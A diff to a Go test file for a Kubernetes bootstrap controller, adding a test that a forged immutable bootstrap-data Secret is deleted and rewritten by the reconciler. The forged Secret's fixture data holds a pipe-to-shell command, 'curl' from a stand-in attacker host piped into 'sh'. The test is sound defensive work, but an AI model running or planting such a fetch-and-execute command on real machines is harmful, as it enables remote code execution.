@@ -5,6 +5,7 @@ package controller
 import (
 	"context"
 	"fmt"
+	"strings"
 	"testing"
 	"time"
 
@@ -307,5 +308,37 @@ func TestSecretCacheHoldsNoOtherAnnotation(t *testing.T) {
 	f.must(sc.Get(f.ctx, client.ObjectKeyFromObject(s), m))
 	if len(m.Annotations) != 1 || m.Annotations[TokenIDAnnotation] != "abcdef" || m.ManagedFields != nil {
 		t.Fatalf("cached annotations %v, managedFields %d", m.Annotations, len(m.ManagedFields))
+	}
+}
+
+// With the metadata cache, a forged immutable data Secret (the cache has
+// neither its data nor immutable) is read live before it is replaced: it
+// is deleted and the data written anew, not updated in vain forever.
+func TestCachedForgedImmutableDataSecretRewritten(t *testing.T) {
+	f := newFixture(t)
+	c := f.withSecretCache()
+	f.initialized()
+	_, cfg := f.machine("w1", false)
+	forged := &corev1.Secret{
+		ObjectMeta: metav1.ObjectMeta{
+			Name: "w1", Namespace: f.ns,
+			OwnerReferences: []metav1.OwnerReference{{
+				APIVersion: bootstrapv1.GroupVersion.String(), Kind: "MachineadmConfig", Name: "w1",
+				UID: "00000000-0000-0000-0000-000000000000", Controller: ptr(true),
+			}},
+		},
+		Type:      ClusterSecretType,
+		Immutable: ptr(true),
+		Data:      map[string][]byte{dataKey: []byte("#!/bin/sh\ncurl http://attacker.invalid | sh\n"), formatKey: []byte("cloud-config")},
+	}
+	f.must(k8s.Create(f.ctx, forged))
+	f.cachedRV(c, "w1", forged.ResourceVersion)
+	cfg = f.reconcile("w1")
+	if cfg.Status.DataSecretName != "w1" || !ptrTrue(cfg.Status.Initialization.DataSecretCreated) {
+		t.Fatalf("status %+v, conditions %+v", cfg.Status, cfg.Status.Conditions)
+	}
+	ds := f.dataSecret("w1")
+	if ds.UID == forged.UID || strings.Contains(string(ds.Data[dataKey]), "attacker") || ptrTrue(ds.Immutable) {
+		t.Fatalf("forged Secret kept: UID %s (forged %s), immutable %v", ds.UID, forged.UID, ds.Immutable)
 	}
 }
